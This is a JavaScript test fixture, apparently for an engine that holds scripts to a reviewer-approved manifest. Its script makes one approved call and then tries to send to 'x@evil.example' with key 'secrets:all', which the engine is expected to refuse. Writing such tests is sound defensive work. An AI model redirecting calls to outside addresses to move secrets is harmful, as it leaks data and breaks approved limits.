/**
 * @class manifest
 * @attack The manifest a reviewer approved says demo.echo is only ever sent `to:
 *   "ops@corp.example"` and keys under "report:", and the script sends what the input says
 *   instead (after one honest call). The engine holds each call to the records of its action:
 *   the honest call runs, the lying one is refused before the action sees it.
 * @expect {"status":"failed","code":"ALICE_UNAUTHORIZED"}
 * @actions demo.echo
 * @input {"to":"x@evil.example","key":"secrets:all"}
 * @build (b) => ({ ...b, manifest: { ...b.manifest, arguments: { 'demo.echo': [{ line: 1, args: { to: { literal: 'ops@corp.example' }, key: { template: 'report:${…}', prefix: 'report:', from: ['input'] } } }] } } })
 */
export default async (input, actions) => {
  await actions.demo.echo({ to: 'ops@corp.example', key: 'report:2024' });
  await actions.demo.echo({ to: input.to, key: 'report:2024' });
  return 'sent';
};
